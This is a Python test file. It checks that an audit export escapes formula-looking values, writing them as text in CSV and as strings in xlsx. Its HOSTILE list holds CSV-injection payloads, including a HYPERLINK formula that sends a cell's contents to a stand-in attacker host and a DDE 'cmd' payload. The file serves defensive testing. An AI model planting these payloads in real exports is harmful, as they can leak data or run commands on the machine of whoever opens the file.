"""Audit exports with formula-looking values (update ids, error messages from APIs): the CSV shows
them as text (OWASP "CSV Injection"), the xlsx stores them as strings, never as formulas."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import openpyxl
from pregon.insights.audit import Audit, csv_cell, write
from pregon.insights.months import Month

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def test_formula_looking_cells_become_text_in_csv_and_strings_in_xlsx(tmp_path: Path) -> None:
    at = datetime(2026, 1, 15, 9, 30)
    posts = [
        [f"Comunicado {i}", f"comunicado-{i}", value, "bluesky", "https://bsky.app/x", at, at, 1, "fallido", value]
        for i, value in enumerate(HOSTILE)
    ]
    audit = Audit(Month.parse("2026-01"), [], [], posts)
    paths = write(audit, tmp_path)

    csv_path = next(p for p in paths if p.name.endswith("publicaciones.csv"))
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[2] for r in rows] == ["'" + v for v in HOSTILE]
    assert all(r[9][0] not in "=+-@\t\r＝＋－＠" for r in rows)
    assert rows[0][7] == "1" and rows[0][5] == "15/01/2026 09:30"  # numbers and dates untouched

    book = openpyxl.load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
    sheet = book["Publicaciones"]
    # OOXML writes a CR as _x000D_ (openpyxl reads it back so); the point is the cell type.
    written = {v.replace("\r", "_x000D_") for v in HOSTILE}
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value in written}
    assert set(cells) == written
    assert set(cells.values()) == {"s"}  # strings as written, not formulas ("f")


def test_plain_values_are_left_alone() -> None:
    assert csv_cell("vias-rurales") == "vias-rurales"
    assert csv_cell("Correo: 3 destinatarios") == "Correo: 3 destinatarios"
    assert csv_cell(None) == "" and csv_cell(-3) == -3
